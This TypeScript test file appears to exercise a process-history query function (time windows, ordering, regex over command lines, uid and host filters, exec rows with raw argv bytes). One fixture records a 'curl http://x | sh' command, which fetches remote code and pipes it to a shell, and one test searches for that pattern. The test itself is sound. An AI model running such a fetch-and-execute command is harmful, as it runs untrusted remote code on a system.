import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findProcesses } from '../../src/query/index.js';
import { DIALECTS, withStore } from '../helpers/store-dialects.js';
import { addHost, addProcess } from './fixtures.js';

const pids = (rows: readonly { pid: number }[]) => rows.map((r) => r.pid);

for (const dialect of DIALECTS) {
  test(`[${dialect}] a process ran in the window when it started by its end and ended at or after its start`, (t) =>
    withStore(t, dialect, async (store) => {
      await addHost(store, 'h1', 'web');
      await addProcess(store, { pid: 10, start: 100, end: 199 }); // ended before the window
      await addProcess(store, { pid: 11, start: 100, end: 200 }); // ends exactly at from
      await addProcess(store, { pid: 12, start: 250, end: 260 }); // inside
      await addProcess(store, { pid: 13, start: 300, end: null }); // starts exactly at to, still running
      await addProcess(store, { pid: 14, start: 301, end: null }); // after the window
      await addProcess(store, { pid: 15, start: 50, end: null }); // running across the window
      assert.deepEqual(pids(await findProcesses(store, { from: 200, to: 300 })), [15, 11, 12, 13]);
      assert.deepEqual(pids(await findProcesses(store)), [15, 10, 11, 12, 13, 14]);
      assert.deepEqual(pids(await findProcesses(store, { from: 261 })), [15, 13, 14]);
      assert.deepEqual(pids(await findProcesses(store, { to: 99 })), [15]);
    }));

  test(`[${dialect}] processes come in start order, then in ingest order (open_ord) at equal starts`, (t) =>
    withStore(t, dialect, async (store) => {
      await addHost(store, 'h1', 'web');
      await addProcess(store, { pid: 3, start: 500, open_ord: 9 });
      await addProcess(store, { pid: 1, start: 500, open_ord: 7 });
      await addProcess(store, { pid: 2, start: 400, open_ord: 8 });
      assert.deepEqual(pids(await findProcesses(store)), [2, 1, 3]);
      assert.deepEqual(pids(await findProcesses(store, { limit: 2 })), [2, 1]);
    }));

  test(`[${dialect}] --command is a regular expression over the command line or the exe path`, (t) =>
    withStore(t, dialect, async (store) => {
      await addHost(store, 'h1', 'web');
      await addProcess(store, {
        pid: 1,
        start: 1,
        argv: ['bash', '-c', 'curl http://x | sh'],
        exe: '/usr/bin/bash',
      });
      await addProcess(store, { pid: 2, start: 2, argv: ['sshd: root'], exe: '/usr/sbin/sshd' });
      await addProcess(store, { pid: 3, start: 3, argv: ['python3', 'a.py'], exe: '/usr/bin/python3.12' });
      await addProcess(store, { pid: 4, start: 4, argv: [], exe: null, comm: 'kworker/0:1' });
      assert.deepEqual(pids(await findProcesses(store, { command: 'curl.*\\| *sh' })), [1]);
      assert.deepEqual(pids(await findProcesses(store, { command: '^/usr/sbin/' })), [2]);
      assert.deepEqual(pids(await findProcesses(store, { command: 'python3\\.1[0-9]$' })), [3]);
      assert.deepEqual(pids(await findProcesses(store, { command: 'CURL' })), []);
      await assert.rejects(findProcesses(store, { command: 'curl(' }), (e: Error & { code?: string }) => {
        assert.equal(e.code, 'POFR_USAGE');
        assert.match(e.message, /"curl\(" is not a valid regular expression/);
        return true;
      });
    }));

  test(`[${dialect}] --user matches a name, or a numeric uid as real or effective uid; --pid one pid`, (t) =>
    withStore(t, dialect, async (store) => {
      await addHost(store, 'h1', 'web');
      await addProcess(store, { pid: 1, start: 1, ruid: 0, user: 'root' });
      await addProcess(store, { pid: 2, start: 2, ruid: 1000, euid: 1000, user: 'alice' });
      await addProcess(store, { pid: 3, start: 3, ruid: 1000, euid: 0, user: 'alice' }); // setuid
      await addProcess(store, { pid: 4, start: 4, ruid: 1001, user: null });
      assert.deepEqual(pids(await findProcesses(store, { user: 'alice' })), [2, 3]);
      assert.deepEqual(pids(await findProcesses(store, { user: '0' })), [1, 3]);
      assert.deepEqual(pids(await findProcesses(store, { user: '1001' })), [4]);
      assert.deepEqual(pids(await findProcesses(store, { pid: 3 })), [3]);
    }));

  test(`[${dialect}] observer: false leaves out the recorder's own processes; hosts narrows to ids`, (t) =>
    withStore(t, dialect, async (store) => {
      await addHost(store, 'h1', 'web');
      await addHost(store, 'h2', 'db');
      await addProcess(store, { pid: 1, start: 1, observer: true });
      await addProcess(store, { pid: 2, start: 2 });
      await addProcess(store, { host_id: 'h2', pid: 3, start: 3 });
      assert.deepEqual(pids(await findProcesses(store)), [1, 2, 3]);
      assert.deepEqual(pids(await findProcesses(store, { observer: false })), [2, 3]);
      assert.deepEqual(pids(await findProcesses(store, { observer: true })), [1, 2, 3]);
      assert.deepEqual(pids(await findProcesses(store, { hosts: ['h2'] })), [3]);
      assert.deepEqual(pids(await findProcesses(store, { hosts: [] })), []);
      const [p] = await findProcesses(store, { hosts: ['h2'] });
      assert.equal(p.host, 'db');
      assert.equal(p.observer, false);
    }));

  test(`[${dialect}] each exec is its own image row with argv as an array and exact bytes as base64`, (t) =>
    withStore(t, dialect, async (store) => {
      await addHost(store, 'h1', 'web');
      const raw = Buffer.from([0x63, 0x61, 0x74, 0x00, 0x2f, 0x74, 0x6d, 0x70, 0x2f, 0xff, 0x00]);
      const first = await addProcess(store, {
        pid: 7,
        start: 100,
        end: 150,
        end_reason: 'exec',
        argv: ['bash'],
        comm: 'bash',
      });
      await addProcess(store, {
        pid: 7,
        exec_index: 1,
        start: 150,
        parent_id: null,
        argv: ['cat', '/tmp/\\xff'],
        argv_raw: raw,
        comm: 'cat',
      });
      const rows = await findProcesses(store, { pid: 7 });
      assert.equal(rows.length, 2);
      assert.equal(rows[0].id, first);
      assert.deepEqual(
        rows.map((r) => [r.exec_index, r.start, r.end, r.end_reason, r.comm]),
        [
          [0, 100, 150, 'exec', 'bash'],
          [1, 150, null, null, 'cat'],
        ],
      );
      assert.deepEqual(rows[1].argv, ['cat', '/tmp/\\xff']);
      assert.equal(rows[1].cmdline, 'cat /tmp/\\xff');
      assert.equal(rows[1].argv_raw_b64, raw.toString('base64'));
      assert.equal(rows[0].argv_raw_b64, null);
      assert.equal(rows[1].source, 'trace');
      assert.ok(Object.isFrozen(rows[1]) && Object.isFrozen(rows[1].argv));
      // the image that exec'd ran until 150: it is in a window that starts there, the new one too
      assert.deepEqual(
        (await findProcesses(store, { from: 150, pid: 7 })).map((r) => r.exec_index),
        [0, 1],
      );
      assert.deepEqual(
        (await findProcesses(store, { from: 151, pid: 7 })).map((r) => r.exec_index),
        [1],
      );
    }));
}
